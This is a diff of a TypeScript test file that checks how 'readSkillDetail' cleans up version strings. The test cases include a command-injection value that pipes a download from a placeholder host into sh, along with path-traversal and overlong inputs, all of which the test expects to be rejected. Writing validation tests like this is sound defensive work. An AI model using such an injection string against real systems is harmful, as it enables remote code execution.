@@ -242,7 +242,7 @@ describe("readSkillDetail", () => {
   const versions: [JsonValue, string][] = [
     ["1.2.3-garbage+1", "1.2.3-garbage+1"],
     ["1.0–ü", ""],
-    ["1;curl${IFS}x.example|sh", ""],
+    [`1;curl\${IFS}x.example|sh`, ""],
     ["../1", ""],
     ["1".repeat(100), "1".repeat(100)],
     ["1".repeat(101), ""],
